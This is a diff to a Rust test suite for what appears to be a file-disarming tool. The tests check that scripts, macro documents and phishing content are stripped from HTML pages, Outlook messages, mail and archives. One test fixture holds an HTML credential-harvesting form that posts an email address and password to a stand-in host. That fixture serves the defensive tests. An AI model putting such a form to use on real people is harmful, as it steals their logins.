@@ -9,11 +9,12 @@ use crate::bench::engine;
 use crate::build::{self, Part, compound, zip};
 use crate::build_links::{package, paragraph, relationships, word};
 use crate::disarm::{disarm, with_macro};
+use crate::disarm_mail::stream;
 use crate::fixtures::pdf;
 use crate::support::Folder;
 
 /// What is made of a file, and the scan of it; disarmed again it stays.
-fn made(name: &str, data: &[u8]) -> (Vec<u8>, Report) {
+pub(crate) fn made(name: &str, data: &[u8]) -> (Vec<u8>, Report) {
     let engine = engine();
     let mut worker = Worker::new(&engine);
     let (_, made) = disarm(&engine, &mut worker, name, data);
@@ -23,7 +24,7 @@ fn made(name: &str, data: &[u8]) -> (Vec<u8>, Report) {
     (new, proven.report)
 }
 
-fn refused(name: &str, data: &[u8]) -> String {
+pub(crate) fn refused(name: &str, data: &[u8]) -> String {
     let engine = engine();
     let mut worker = Worker::new(&engine);
     let (_, made) = disarm(&engine, &mut worker, name, data);
@@ -31,7 +32,7 @@ fn refused(name: &str, data: &[u8]) -> String {
 }
 
 /// uuencode as old mail programs write it.
-fn uuencoded(name: &str, data: &[u8]) -> String {
+pub(crate) fn uuencoded(name: &str, data: &[u8]) -> String {
     let sign =
         |six: u32| char::from(u8::try_from(if six == 0 { 0x60 } else { six + 0x20 }).unwrap());
     let mut out = format!("begin 644 {name}\r\n");
@@ -145,19 +146,13 @@ fn attachments_in_tnef_are_disarmed_in_place() {
     assert!(refused("winmail.dat", &message(&build::program())).contains("executable"));
 }
 
-/// A message of Outlook with an HTML body.
-fn outlook(page: &[u8]) -> Vec<u8> {
-    let units = |text: &str| {
-        text.encode_utf16()
-            .flat_map(u16::to_le_bytes)
-            .collect::<Vec<u8>>()
-    };
+/// A message of Outlook with a body in a property of this tag.
+pub(crate) fn outlook(tag: u32, body: &[u8]) -> Vec<u8> {
+    let subject: Vec<u8> = "Report".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    // The size of a text counts its end.
+    let end = if tag & 0xffff == 0x1f { 2 } else { 0 };
     let mut list = vec![0; 32];
-    let subject = units("Report");
-    for (tag, size) in [
-        (0x0037_001fu32, subject.len() + 2),
-        (0x1013_0102, page.len()),
-    ] {
+    for (tag, size) in [(0x0037_001fu32, subject.len() + 2), (tag, body.len() + end)] {
         list.extend(tag.to_le_bytes());
         list.extend(6u32.to_le_bytes());
         list.extend(u64::try_from(size).unwrap().to_le_bytes());
@@ -165,10 +160,13 @@ fn outlook(page: &[u8]) -> Vec<u8> {
     let streams = [
         ("/__properties_version1.0".to_owned(), list),
         ("/__substg1.0_0037001F".to_owned(), subject),
-        ("/__substg1.0_10130102".to_owned(), page.to_vec()),
+        (format!("/__substg1.0_{tag:08X}"), body.to_vec()),
     ];
     compound(&streams)
 }
+
+/// PidTagHtml as bytes.
+const HTML: u32 = 0x1013_0102;
 
 #[test]
 fn the_page_of_a_message_of_outlook_is_disarmed_in_its_property() {
@@ -178,7 +176,7 @@ fn the_page_of_a_message_of_outlook_is_disarmed_in_its_property() {
         )
     };
     let bad = "<form action=\"http://192.0.2.9/in.php\" method=\"post\">Mail: <input name=\"mail\"> Password: <input type=\"password\" name=\"word\"><input type=\"submit\"></form>";
-    let (new, report) = made("a.msg", &outlook(form(bad).as_bytes()));
+    let (new, report) = made("a.msg", &outlook(HTML, form(bad).as_bytes()));
     assert!(
         report
             .findings
@@ -186,16 +184,8 @@ fn the_page_of_a_message_of_outlook_is_disarmed_in_its_property() {
             .all(|one| one.id != "credential-form")
     );
     let mut file = cfb::CompoundFile::open_strict(Cursor::new(new)).unwrap();
-    let mut read = |path: &str| {
-        let mut data = Vec::new();
-        file.open_stream(path)
-            .unwrap()
-            .read_to_end(&mut data)
-            .unwrap();
-        data
-    };
-    let page = read("/__substg1.0_10130102");
-    let list = read("/__properties_version1.0");
+    let page = stream(&mut file, "/__substg1.0_10130102");
+    let list = stream(&mut file, "/__properties_version1.0");
     let text = String::from_utf8(page.clone()).unwrap();
     assert!(
         text.contains("Hello") && text.contains("Bye") && !text.contains("192.0.2.9"),
@@ -207,12 +197,12 @@ fn the_page_of_a_message_of_outlook_is_disarmed_in_its_property() {
     );
     let engine = engine();
     let mut worker = Worker::new(&engine);
-    let harmless = outlook(form("").as_bytes());
+    let harmless = outlook(HTML, form("").as_bytes());
     assert!(disarm(&engine, &mut worker, "a.msg", &harmless).1.is_none());
 }
 
 /// A record of a binary workbook.
-fn record(id: u16, body: &[u8]) -> Vec<u8> {
+pub(crate) fn record(id: u16, body: &[u8]) -> Vec<u8> {
     let mut out = Vec::new();
     if id < 0x80 {
         out.push(u8::try_from(id).unwrap());
@@ -226,14 +216,15 @@ fn record(id: u16, body: &[u8]) -> Vec<u8> {
     out
 }
 
-fn wide(text: &str) -> Vec<u8> {
+pub(crate) fn wide(text: &str) -> Vec<u8> {
     let units: Vec<u16> = text.encode_utf16().collect();
     let mut out = u32::try_from(units.len()).unwrap().to_le_bytes().to_vec();
     out.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
     out
 }
 
-const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+pub(crate) const RELATIONS: &str =
+    "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
 /// PtgNameX to the first name of a reference.
 fn asking(reference: u8) -> [u8; 7] {
@@ -352,7 +343,7 @@ fn workbook(service: &str) -> Vec<u8> {
     )
 }
 
-fn members(data: &[u8]) -> Vec<(String, Vec<u8>)> {
+pub(crate) fn members(data: &[u8]) -> Vec<(String, Vec<u8>)> {
     let mut archive = ::zip::ZipArchive::new(Cursor::new(data)).unwrap();
     (0..archive.len())
         .map(|at| {
@@ -535,4 +526,62 @@ fn a_document_that_a_page_carries_is_disarmed_or_goes_with_its_script() {
         assert!(!text.contains("createObjectURL"), "{name}: {text}");
         assert!(report.findings.is_empty(), "{name}: {:?}", report.findings);
     }
+}
+
+/// Scripts of a page go where a browser opens it: what was given, or a file that a mail brings. Programs for mail run
+/// none, and the pages of a manual in an archive stay as they are.
+#[test]
+fn ordinary_scripts_go_from_pages_that_are_opened() {
+    let page =
+        "<html><body onload=\"start()\"><p>Report</p><script>start = 1;</script></body></html>";
+    let (new, report) = made("a.html", page.as_bytes());
+    assert_eq!(new, b"<html><body><p>Report</p></body></html>");
+    assert!(report.findings.is_empty(), "{report:?}");
+    let mail = |headers: &str| {
+        format!(
+            "From: a@b.example\r\nTo: c@d.example\r\nSubject: Report\r\nDate: Fri, 27 Nov 2026 10:00:00 +0900\r\n\
+             Message-ID: <1@b.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
+             --b\r\nContent-Type: text/html\r\n{headers}\r\n{page}\r\n--b--\r\n"
+        )
+    };
+    let named = "Content-Disposition: attachment; filename=\"a.html\"\r\n";
+    let (new, _) = made("a.eml", mail(named).as_bytes());
+    let text = String::from_utf8(new).unwrap();
+    assert!(text.contains("<body><p>Report</p></body>"), "{text}");
+    let engine = engine();
+    let mut worker = Worker::new(&engine);
+    for (name, data) in [
+        ("a.eml", mail("").into_bytes()),
+        ("a.zip", zip(&[("a.html", page.as_bytes())])),
+    ] {
+        assert!(
+            disarm(&engine, &mut worker, name, &data).1.is_none(),
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn an_archive_that_becomes_a_zip_is_written_where_it_was_said() {
+    let folder = Folder::new();
+    let mut tar = tar::Builder::new(Vec::new());
+    let data = with_macro();
+    let mut header = tar::Header::new_gnu();
+    header.set_size(data.len() as u64);
+    header.set_mode(0o644);
+    tar.append_data(&mut header, "a.docm", data.as_slice())
+        .unwrap();
+    folder.file("a.tar", tar.into_inner().unwrap());
+    for (options, written) in [
+        (&["-o", "out.tar"][..], "out.tar"),
+        (&["-o", "out.new", "--rename"], "out.zip"),
+        (&["-o", "."], "a.zip"),
+    ] {
+        let run = folder.run(&[&["disarm", "a.tar"][..], options].concat());
+        assert_eq!(run.code, 0, "{run:?}");
+        let made = std::fs::read(folder.path(written)).unwrap();
+        assert!(made.starts_with(b"PK"), "{written}");
+        assert!(run.stdout.contains(written), "{run:?}");
+    }
+    assert!(!folder.path("out.new").exists());
 }
